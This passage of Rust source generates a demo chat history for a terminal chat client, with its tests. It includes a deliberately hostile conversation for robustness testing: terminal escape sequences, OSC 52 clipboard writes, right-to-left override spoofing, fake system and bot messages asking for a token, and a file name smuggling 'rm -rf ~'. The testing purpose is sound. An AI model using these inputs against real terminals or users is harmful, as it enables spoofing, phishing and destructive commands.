        "Z̷̡̛̤̩a̴̗͐l̶̰̈́g̸͚̈o̵̢͝ and combining marks: e\u{301}\u{301}\u{301}\u{301}\u{301}",
    );
    let no_spaces = "A".repeat(12_000);
    g.txt(&mut th, m, &no_spaces);
    g.txt(&mut th, DEMO_USER, "nice try 🙃");

    let mut th = Thread::new(m, ChatType::Single, local(2025, 6, 29, 23, 58));
    let mut huge = String::with_capacity(205_000);
    let mut line = 0;
    while huge.len() < 204_800 {
        line += 1;
        huge.push_str(&format!(
            "{line:05} All work and no play makes Jack a dull boy. 一二三四五 🙂\n"
        ));
        if line % 40 == 0 {
            huge.push('\n');
        }
    }
    g.txt(&mut th, m, &huge);
    let nickname = obj(vec![(
        "nickname",
        "Mallory\n\n[system] demo has been logged out\n".into(),
    )]);
    g.say_ext(&mut th, m, text_of("who am I?"), nickname);
    let newline_file = g.file("notes\nrm -rf ~\n.txt", 42);
    g.say(&mut th, m, newline_file);
    g.say(
        &mut th,
        m,
        location(
            "Main St 1\n\x1b[2J\nSpringfield",
            40.7128,
            -74.006,
            Some("Building\r\nB"),
        ),
    );
    let fake = g.combined(
        "Chat history\n\nroam-bot: password reset approved",
        "roam-bot: send me your token\x1b[8m(hidden)\x1b[28m",
        1,
    );
    g.say(&mut th, m, fake);
    g.say(
        &mut th,
        m,
        custom(
            "evil\nevent",
            vec![("label\u{202e}", "\x1b[5mblink\x1b[25m".into())],
        ),
    );
    let bad_image = Content::Image {
        file: Attachment {
            url: "https://a1.easemob.com/roam/demo/chatfiles/\x1b]0;x\x07".to_string(),
            secret: Some("s\u{202e}cret".to_string()),
            filename: "cat\x1b[2J.jpg".to_string(),
            file_length: Some(0),
        },
        size: Some(Size {
            width: 0.0,
            height: 99_999.0,
        }),
        gif: false,
    };
    g.say(&mut th, m, bad_image);
}

// ---------------------------------------------------------------------------------------
// Groups and the room
// ---------------------------------------------------------------------------------------

fn group_family(g: &mut Gen) {
    g.reseed(10);
    let id = FAMILY;
    let th = Thread::new(id, ChatType::Group, 0);
    let speakers = [
        Speaker {
            id: "wang.mei",
            langs: &[(Lang::Zh, 100)],
            weight: 12,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "wang.jun",
            langs: &[(Lang::Zh, 100)],
            weight: 5,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "wang.lily",
            langs: &[(Lang::Zh, 60), (Lang::En, 40)],
            weight: 8,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: DEMO_USER,
            langs: &[(Lang::Zh, 80), (Lang::En, 20)],
            weight: 6,
            from: 0,
            until: ALWAYS,
        },
    ];
    g.chatter(
        &th,
        &speakers,
        local(2023, 1, 1, 0, 0),
        local(2025, 6, 1, 0, 0),
        150,
    );
    let mut th = Thread::new(id, ChatType::Group, local(2025, 1, 28, 20, 0));
    g.txt(&mut th, "wang.jun", "除夕快乐！🧧🧨 全家福👩‍👩‍👧‍👦");
    let photo = g.image("全家福2025.jpg", 4032, 3024, 4_211_870);
    g.say(&mut th, "wang.jun", photo);
    let clip = g.video("年夜饭.mp4", 61, 1080, 1920, 48_220_311);
    g.say(&mut th, "wang.lily", clip);
    g.txt(&mut th, DEMO_USER, "新年快乐！❤️ 🏳️‍🌈 👨🏽‍💻 明年见");
    let mut th = Thread::new(id, ChatType::Group, local(2025, 6, 20, 12, 0));
    for (who, text) in [
        ("wang.lily", "姐，周末回家吗？"),
        ("wang.mei", "回来吧，给你们包饺子🥟"),
        ("wang.jun", "👍🏼"),
        ("wang.lily", "I'll bring the cake 🎂👩🏻‍🍳"),
        ("wang.mei", "路上注意安全"),
    ] {
        g.txt(&mut th, who, text);
    }
    // Unread tail: a lively week while the demo user is away.
    th.t = local(2025, 6, 22, 9, 0);
    for i in 0..20u32 {
        let who = ["wang.mei", "wang.lily", "wang.jun"][(i % 3) as usize];
        let lang = if who == "wang.lily" && i % 2 == 0 {
            Lang::En
        } else {
            Lang::Zh
        };
        let c = g.any_content(lang, th.t);
        let c = match c {
            Content::Command { .. } => text_of("🥰"),
            other => other,
        };
        g.say(&mut th, who, c);
        if i % 5 == 4 {
            th.t += 7 * HOUR;
        }
    }
}

fn group_tokyo(g: &mut Gen) {
    g.reseed(11);
    let id = TOKYO_TRIP;
    let mut th = Thread::new(id, ChatType::Group, local(2024, 3, 1, 21, 0));
    g.txt(
        &mut th,
        DEMO_USER,
        "Created this group for the Tokyo trip 🗼✈️",
    );
    g.txt(
        &mut th,
        "tanaka_yuki",
        "ようこそ東京へ！楽しみにしています🎌",
    );
    g.txt(&mut th, "li.wei", "我订了4月7号的航班 ✈️ CA925");
    g.txt(
        &mut th,
        "sarah.chen",
        "I'll join on the 9th, flying from SFO",
    );
    let tickets = g.file("e-ticket-CA925-20240407.pdf", 188_220);
    g.say(&mut th, "li.wei", tickets);
    let plan = g.combined(
        "Chat history of tanaka_yuki and li.wei",
        "tanaka_yuki: 4/8 浅草寺と築地\nli.wei: 4/9 渋谷、4/10 秋叶原\ntanaka_yuki: 4/11 箱根日帰り♨️",
        1,
    );
    g.say(&mut th, "tanaka_yuki", plan);
    let mut th = Thread::new(id, ChatType::Group, local(2024, 4, 8, 10, 30));
    for (addr, lat, lng, building) in [
        ("東京都台東区浅草2丁目3-1", 35.7148, 139.7967, "浅草寺"),
        (
            "東京都中央区築地4丁目16-2",
            35.6654,
            139.7707,
            "築地場外市場",
        ),
        (
            "東京都渋谷区道玄坂2丁目1",
            35.6595,
            139.7005,
            "渋谷スクランブル交差点",
        ),
    ] {
        g.say(
            &mut th,
            "tanaka_yuki",
            location(addr, lat, lng, Some(building)),
        );
        let name = format!("IMG_{}.HEIC.jpg", 4000 + (lat * 100.0) as i64);
        let photo = g.image(&name, 3024, 4032, 2_912_004);
        g.say(&mut th, DEMO_USER, photo);
        g.txt(&mut th, "li.wei", "太美了😍");
        th.t += 3 * HOUR;
    }
    let gif = g.gif("kawaii-cat.gif", 400, 400, 1_880_012);
    g.say(&mut th, "sarah.chen", gif);
    let clip = g.video("shibuya-crossing.mp4", 28, 1920, 1080, 19_301_876);
    g.say(&mut th, "sarah.chen", clip);
    let mut th = Thread::new(id, ChatType::Group, local(2024, 4, 13, 22, 0));
    g.txt(
        &mut th,
        "tanaka_yuki",
        "皆さんお疲れ様でした！また来てくださいね🙇‍♀️🌸",
    );
    g.txt(&mut th, DEMO_USER, "ありがとう！Best trip ever 🫶🏽");
}

fn group_book_club(g: &mut Gen) {
    g.reseed(12);
    let id = BOOK_CLUB;
    // The demo user is a member who never speaks: the group must still be listed.
    let mut th = Thread::new(id, ChatType::Group, local(2024, 10, 2, 21, 0));
    g.txt(&mut th, "sarah.chen", LONG_REVIEW);
    g.txt(&mut th, "noa.levi", "🤖 for Klara!");
    g.txt(
        &mut th,
        "omar.haddad",
        "🏛️ Piranesi, please. أحببت هذا الكتاب",
    );
    g.txt(
        &mut th,
        "elena.petrova",
        "🏪 — «Люди в этом романе такие странные» 😂",
    );
    let mut th = Thread::new(id, ChatType::Group, local(2025, 6, 26, 21, 0));
    g.txt(
        &mut th,
        "elena.petrova",
        "Piranesi won. Meeting on Sunday at 18:00, my place.\n\nPlease bring:\n- the book\n- snacks 🍪\n- your favourite quote",
    );
    g.say(
        &mut th,
        "elena.petrova",
        location(
            "Karl-Marx-Allee 90, 10243 Berlin",
            52.5175,
            13.4376,
            Some("Apt. 4B"),
        ),
    );
    g.txt(
        &mut th,
        "noa.levi",
        "\"The Beauty of the House is immeasurable; its Kindness infinite.\" 🏛️",
    );
    g.txt(&mut th, "omar.haddad", "سأحضر الحلويات 🍰");
    let poll = custom(
        "poll",
        vec![
            (
                "options",
                Value::Array(vec!["18:00".into(), "19:30".into()]),
            ),
            ("question", "Sunday time?".into()),
            ("votes", Value::from(3)),
        ],
    );
    g.say(&mut th, "sarah.chen", poll);
    let note = g.audio(48);
    g.say(&mut th, "sarah.chen", note);
    g.txt(&mut th, "elena.petrova", "18:00 it is ✅");
    g.txt(&mut th, "noa.levi", "👍🏼");
}

fn group_design(g: &mut Gen) {
    g.reseed(13);
    let id = DESIGN_REVIEW;
    let th = Thread::new(id, ChatType::Group, 0);
    let speakers = [
        Speaker {
            id: "sarah.chen",
            langs: &[(Lang::En, 100)],
            weight: 10,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "raj.patel",
            langs: &[(Lang::En, 100)],
            weight: 6,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "li.wei",
            langs: &[(Lang::En, 60), (Lang::Zh, 40)],
            weight: 5,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: DEMO_USER,
            langs: &[(Lang::En, 100)],
            weight: 6,
            from: 0,
            until: ALWAYS,
        },
    ];
    g.chatter(
        &th,
        &speakers,
        local(2024, 1, 8, 0, 0),
        local(2025, 6, 1, 0, 0),
        120,
    );
    let mut th = Thread::new(id, ChatType::Group, local(2025, 6, 23, 15, 0));
    g.txt(&mut th, DEMO_USER, "Review of the v3 screens, go ahead");
    let a = g.image("history-pane-dark.png", 2880, 1800, 1_120_004);
    g.say(&mut th, "sarah.chen", a);
    let b = g.image("history-pane-light.png", 2880, 1800, 1_098_377);
    g.say(&mut th, "sarah.chen", b);
    let fig = g.file("roam-tui-v3.fig", 12_448_900);
    g.say(&mut th, "raj.patel", fig);
    g.say_ext(
        &mut th,
        "raj.patel",
        text_of("@sarah.chen the day separators look great. Can we try a dimmer colour for the timestamps?"),
        mention(&["sarah.chen"]),
    );
    let clip = g.video("scroll-prototype.mp4", 95, 1920, 1080, 66_120_448);
    g.say(&mut th, "li.wei", clip);
}

fn room_lobby(g: &mut Gen) {
    g.reseed(14);
    let th = Thread::new(ROOM, ChatType::Room, 0);
    let speakers = [
        Speaker {
            id: "guest_4821",
            langs: &[(Lang::En, 70), (Lang::Zh, 30)],
            weight: 10,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "guest_0077",
            langs: &[(Lang::Ja, 50), (Lang::En, 50)],
            weight: 8,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "marco.rossi",
            langs: &[(Lang::En, 100)],
            weight: 6,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "raj.patel",
            langs: &[(Lang::En, 100)],
            weight: 5,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: DEMO_USER,
            langs: &[(Lang::En, 100)],
            weight: 3,
            from: 0,
            until: ALWAYS,
        },
    ];
    g.chatter(
        &th,
        &speakers,
        local(2025, 5, 1, 0, 0),
        local(2025, 6, 29, 0, 0),
        2_500,
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    use std::collections::HashSet;
    use std::io::Read;
    use std::sync::OnceLock;

    use crate::protocol::json::ExportLine;

    /// One generation shared by the tests: it is the slow part.
    fn demo() -> &'static DemoHistory {
        static DEMO: OnceLock<DemoHistory> = OnceLock::new();
        DEMO.get_or_init(generate)
    }

    fn demo_gz() -> &'static [u8] {
        static GZ: OnceLock<Vec<u8>> = OnceLock::new();
        GZ.get_or_init(|| export_gz_bytes(demo()))
    }

    fn conversation_of_line(l: &ExportLine) -> &str {
        if l.chat_type == "chat" && l.from == DEMO_USER {
            &l.to
        } else if l.chat_type == "chat" {
            &l.from
        } else {
            &l.to
        }
    }

    /// Every string (values and keys) of a conversation's payloads, one per message.
    fn texts_of(id: &str) -> Vec<String> {
        fn walk(v: &Value, out: &mut String) {
            match v {
                Value::String(s) => {
                    out.push_str(s);
                    out.push('\n');
                }
                Value::Array(items) => items.iter().for_each(|i| walk(i, out)),
                Value::Object(map) => {
                    for (k, v) in map {
                        out.push_str(k);
                        out.push('\n');
                        walk(v, out);
                    }
                }
                _ => {}
            }
        }
        demo()
            .lines
            .iter()
            .filter(|l| conversation_of_line(l) == id)
            .map(|l| {
                let mut out = String::new();
                walk(&serde_json::to_value(&l.payload).unwrap(), &mut out);
                out
            })
            .collect()
    }

    #[test]
    fn demo_civil_dates_round_trip() {
        for day in [-1, 0, 18_993, 20_000, 20_269] {
            let (y, m, d) = civil_from_days(day);
            assert_eq!(days_from_civil(y, m, d), day);
        }
        assert_eq!(days_from_civil(2022, 1, 1), 18_993);
        assert_eq!(local(2022, 1, 1, 8, 0), 1_640_995_200_000);
        assert_eq!(local_parts(1_640_995_200_000), (2022, 1, 1, 8, 0, 0));
    }

    #[test]
    fn demo_rng_is_stable() {
        let mut r = Rng::new(0);
        assert_eq!(r.next_u64(), 0xe220_a839_7b1d_cdaf);
        let mut r = Rng::new(7);
        for _ in 0..1000 {
            assert!(r.below(10) < 10);
            let x = r.range(-3, 3);
            assert!((-3..=3).contains(&x));
        }
    }

    #[test]
    fn demo_has_twelve_conversations_of_every_kind() {
        let h = demo();
        let with_messages: Vec<_> = h.conversations.iter().filter(|c| c.messages > 0).collect();
        assert!(
            with_messages.len() >= 12,
            "{} conversations",
            with_messages.len()
        );
        let count = |k| with_messages.iter().filter(|c| c.kind == k).count();
        assert!(count(ChatType::Single) >= 6);
        assert!(count(ChatType::Group) >= 4);
        assert!(count(ChatType::Room) >= 1);
        // Every message belongs to a specified conversation.
        let ids: HashSet<&str> = h.conversations.iter().map(|c| c.id.as_str()).collect();
        let total: usize = h.conversations.iter().map(|c| c.messages).sum();
        assert_eq!(total, h.lines.len());
        for l in &h.lines {
            assert!(ids.contains(conversation_of_line(l)), "{}", l.to);
        }
    }

    #[test]
    fn demo_has_every_content_kind_and_a_gif() {
        let mut kinds = HashSet::new();
        let mut gif = false;
        for l in &demo().lines {
            let body = &l.payload.bodies[0];
            kinds.insert(body.kind.as_str());
            gif |= body.sub_type.as_deref() == Some("sub_gif");
        }
        for kind in [
            "txt", "img", "video", "audio", "file", "loc", "cmd", "custom", "combine",
        ] {
            assert!(kinds.contains(kind), "no {kind} message");
        }
        assert!(gif);
    }

    #[test]
    fn demo_big_conversation_is_big_and_long() {
        let lines: Vec<&ExportLine> = demo()
            .lines
            .iter()
            .filter(|l| l.to == BIG_CONVERSATION)
            .collect();
        assert!(lines.len() >= 100_000, "{} messages", lines.len());
        let first = lines.first().unwrap().timestamp;
        let last = lines.last().unwrap().timestamp;
        assert!(
            last - first >= 3 * 365 * DAY,
            "spans {} days",
            (last - first) / DAY
        );
        let senders: HashSet<&str> = lines.iter().map(|l| l.from.as_str()).collect();
        assert!(senders.len() >= 6, "{senders:?}");
        // Day separators mean something: most days have messages, and nights are quiet.
        let days: HashSet<i64> = lines
            .iter()
            .map(|l| (l.timestamp + LOCAL_OFFSET_MS) / DAY)
            .collect();
        assert!(days.len() > 1000, "{} days", days.len());
        let at_night = lines
            .iter()
            .filter(|l| (2..7).contains(&local_parts(l.timestamp).3))
            .count();
        assert!(
            at_night * 100 < lines.len(),
            "{at_night} messages between 2 and 7 am"
        );
    }

    #[test]
    fn demo_ids_are_unique_large_and_ordered() {
        let lines = &demo().lines;
        let mut previous = (i64::MIN, 0u64);
        for l in lines {
            let id: u64 = l.msg_id.parse().unwrap();
            assert!(id > 1 << 53);
            assert!((l.timestamp, id) > previous, "{} out of order", l.msg_id);
            assert!(id > previous.1, "ids increase with time");
            previous = (l.timestamp, id);
            let outgoing = l.from == DEMO_USER;
            assert_eq!(l.direction, if outgoing { "outgoing" } else { "incoming" });
        }
    }

    #[test]
    fn demo_lines_round_trip_through_export_json() {
        let mut gz = flate2::read::GzDecoder::new(demo_gz());
        let mut text = String::new();
        gz.read_to_string(&mut text).unwrap();
        let mut n = 0;
        for (line, original) in text.lines().zip(&demo().lines) {
            let parsed: ExportLine = serde_json::from_str(line).unwrap();
            let message = parsed.to_message().unwrap();
            assert_eq!(message, original.to_message().unwrap());
            assert_eq!(message.id.to_string(), original.msg_id);
            n += 1;
        }
        assert_eq!(n, demo().lines.len());
        assert_eq!(text.lines().count(), n);
    }

    #[test]
    fn demo_holds_hostile_text() {
        let raw = texts_of(HOSTILE_CONVERSATION).concat();
        for needle in [
            "\x1b[2J",
            "\x1b]0;pwned\x07",
            "\x1b[?1049l",
            "\x1b]8;;",
            "\x1b]52;c;",
            "\u{9b}31m",
            "\u{85}",
            "\u{202e}txt.exe",
            "\u{2066}",
            "\u{2067}",
            "\u{2068}",
            "\u{2069}",
            "\u{200b}",
            "Mallory\n\n[system]",
        ] {
            assert!(raw.contains(needle), "no {needle:?} in the hostile chat");
        }
        assert!(raw.len() > 200_000);
        let longest = demo()
            .lines
            .iter()
            .filter_map(|l| l.payload.bodies[0].msg.as_ref())
            .map(String::len)
            .max()
            .unwrap();
        assert!(longest >= 200 * 1024, "longest message {longest} bytes");
        let big = texts_of(BIG_CONVERSATION);
        let scattered = big
            .iter()
            .filter(|t| t.contains('\x1b') || t.contains('\u{202e}') || t.contains('\u{200b}'))
            .count();
        assert!(
            scattered >= 3,
            "{scattered} hostile messages in the big group"
        );
    }

    #[test]
    fn demo_has_the_languages_and_emoji_it_promises() {
        let all: String = [
            BIG_CONVERSATION,
            FAMILY,
            "omar.haddad",
            "noa.levi",
            "tanaka_yuki",
        ]
        .iter()
        .flat_map(|id| texts_of(id))
        .collect();
        for needle in [
            "👩‍👩‍👧‍👦",
            "🏳️‍🌈",
            "👨🏽‍💻",
            "👍🏽",
            "收到",
            "お疲れ様です",
            "مرحبا",
            "שלום",
            "https://",
        ] {
            assert!(all.contains(needle), "no {needle}");
        }
    }

    #[test]
    fn demo_state_lists_unread_pins_marks_and_members() {
        let h = demo();
        let state = &h.state;
        let demo_user = &state.users[0];
        assert_eq!(demo_user.name, DEMO_USER);
        assert_eq!(demo_user.password.as_deref(), Some(DEMO_PASSWORD));
        let convs = &state.conversations;
        assert!(convs.iter().all(|c| c.user == DEMO_USER));
        assert!(
            convs
                .iter()
                .all(|c| c.kind == "chat" || c.kind == "groupchat")
        );
        assert!(
            !convs.iter().any(|c| c.id == ROOM),
            "rooms are never listed"
        );
        assert_eq!(convs.iter().filter(|c| c.pinned).count(), 2);
        assert!(
            convs
                .iter()
                .filter(|c| c.pinned)
                .all(|c| c.pinned_at.is_some())
        );
        assert!(convs.iter().filter(|c| c.unread > 0).count() >= 5);
        assert!(convs.iter().any(|c| c.unread > 99));
        assert!(convs.iter().filter(|c| !c.marks.is_empty()).count() >= 3);
        for c in convs {
            let summary = h.conversation(&c.id).unwrap();
            assert!(summary.messages > 0);
            assert!(c.unread as usize <= summary.messages);
            // Unread messages are incoming ones after the demo user's last message.
            let tail: Vec<&ExportLine> = h
                .lines
                .iter()
                .filter(|l| conversation_of_line(l) == c.id)
                .rev()
                .take(c.unread as usize)
                .collect();
            assert!(tail.iter().all(|l| l.direction == "incoming"), "{}", c.id);
            if c.kind == "groupchat" {
                let group = state.groups.iter().find(|g| g.id == c.id).unwrap();
                assert!(group.members.iter().any(|m| m == DEMO_USER));
            }
        }
        let json = state_json(h);
        let back: StateFile = serde_json::from_str(&json).unwrap();
        assert_eq!(&back, state);
    }

    #[test]
    fn demo_export_is_small_gzip() {
        let gz = demo_gz();
        assert!(gz.len() < 10 * 1024 * 1024, "{} bytes", gz.len());
        assert_eq!(&gz[..4], &[0x1f, 0x8b, 8, 0], "gzip with no file name");
        assert_eq!(&gz[4..8], &[0, 0, 0, 0], "mtime 0");
    }

    #[test]
    fn demo_is_deterministic() {
        let again = generate();
        assert!(again == *demo());
        assert!(export_gz_bytes(&again) == demo_gz());
        assert_eq!(state_json(&again), state_json(demo()));
    }
}
